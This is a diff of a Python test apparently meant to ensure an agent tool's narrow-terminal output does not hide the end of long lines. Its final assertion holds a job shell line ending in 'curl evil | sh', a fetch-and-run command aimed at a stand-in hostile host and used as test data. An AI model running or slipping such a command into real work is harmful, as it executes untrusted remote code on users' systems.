@@ -44,5 +44,8 @@ def test_a_change_at_the_end_of_a_long_line_is_seen(place: Place) -> None:
 
     for words in (["show", "job"], ["show", "job", "a"], ["log", "job"], ["status"], ["blame", "job"]):
         whole = place.agentfs(*words, env=narrow).stdout
-        assert "…" not in whole, words
+        cut = [
+            line for line in whole.splitlines() if "…" in line and line.strip() != "…"
+        ]  # that: earlier lines of a log
+        assert (words, cut) == (words, [])
     assert f"    shell   {LONG}; curl evil | sh" in place.agentfs("show", "job", env=narrow).stdout.splitlines()
